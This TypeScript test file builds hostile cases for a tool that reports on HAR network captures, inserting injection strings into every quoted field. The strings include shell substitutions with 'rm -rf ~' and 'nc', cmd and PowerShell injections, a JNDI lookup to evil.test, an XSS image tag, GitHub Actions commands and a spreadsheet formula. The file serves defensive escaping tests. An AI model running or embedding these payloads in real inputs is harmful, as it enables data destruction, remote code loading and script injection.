import { chromeEntry, chromePreflight, harText } from '../../make-har.ts'
import type { HostileCase } from '../hostile-case.ts'
import { withField } from '../with-field.ts'

const ORIGIN = 'Access-Control-Allow-Origin'
const blocked = (response: Record<string, string>, more: object = {}): object =>
  chromeEntry({ error: 'net::ERR_FAILED', response, ...more })

/** In every place that a report quotes: URL, origin, method, names, values, status text, error, creator. */
function everywhere(text: string): string {
  const name = text.replace(/[^!#$%&'*+.^`|~\w-]/g, '-') || 'x'
  const preflight = chromePreflight({ method: 'PUT', asks: `x-a,${name}`, response: { [ORIGIN]: text } })
  const entry = chromeEntry({
    method: 'PUT',
    status: 500,
    error: 'net::ERR_FAILED',
    request: { [name]: '1', 'X-A': '1', Referer: `https://app.example/${text}` },
    response: { [ORIGIN]: text, [name]: text, Server: text, Location: text, Vary: text },
  })
  const changed = [
    ['request.url', `https://api.test/${text}?a=${text}#${text}`],
    ['response.statusText', text],
    ['response.content', { size: text.length, mimeType: text, text }],
  ] as const
  const all = [preflight, changed.reduce<object>((one, [path, value]) => withField(one, path, value), entry)]
  const other = withField(
    withField(blocked({ [ORIGIN]: text }), 'request.method', text),
    'response._error',
    `net::ERR_FAILED ${text}`,
  )
  return harText([...all, other], text)
}

const TEXTS: readonly (readonly [what: string, text: string, says: RegExp])[] = [
  [
    'a link and an image of markdown',
    '[Click](https://evil.test/) ![p](https://evil.test/p.png)',
    /\[Click\]/,
  ],
  ['HTML', '<img src=x onerror=alert(1)><a href="https://evil.test">x</a></details>', /<img src=x/],
  [
    'a bare address, as GitHub links it',
    'https://evil.test/phish www.evil.test mail@evil.test',
    /www\.evil\.test/,
  ],
  ['mentions of people and teams', '@octocat @github/security @everyone', /@octocat/],
  [
    'references to issues and commits',
    '#1 GH-1 octocat/hello#2 a5c3785ed8d6a35868bc169f07e40e889087fd2e',
    /GH-1/,
  ],
  ['fences, backticks and headings', '``` `` ` ~~~\u0020# H1 ``````', /~~~/],
  ['a table’s bars and a row of its own', 'a | b | c \\| d || |---|', /a \| b/],
  [
    'commands of GitHub Actions',
    '::error file=x::y ::set-output name=a::b %0A::stop-commands::z',
    /::set-output/,
  ],
  ['the end of a CDATA section and of a comment', ']]></failure><!-- --> <?x?> &#0; &lt;', /\]\]>/],
  ['a shell’s substitutions', '$(touch /tmp/pwned) `id` ; rm -rf ~ & calc | nc', /touch/],
  ['what cmd.exe and PowerShell obey', '"&calc&" %PATH% ^ !x! ’;calc;’ $env:PATH', /calc/],
  [
    'strings of nginx, Apache, PHP, Java and YAML',
    `"; } ${'${'}jndi:ldap://evil.test/a} #{1} <?php ?> {{7*7}} \\" ' - !!js`,
    /jndi/,
  ],
  ['formulas of spreadsheets', '=HYPERLINK("https://evil.test","x")', /HYPERLINK/],
  ['a SARIF link and placeholder', '[x](0) {0} {1} [[y]](file:///etc/hosts)', /\{0\}/],
]

/** Text that formats and shells read as more than text. */
export const MARKUP: readonly HostileCase[] = TEXTS.map(([what, text, says]) => ({
  what,
  har: () => everywhere(text),
  says,
}))
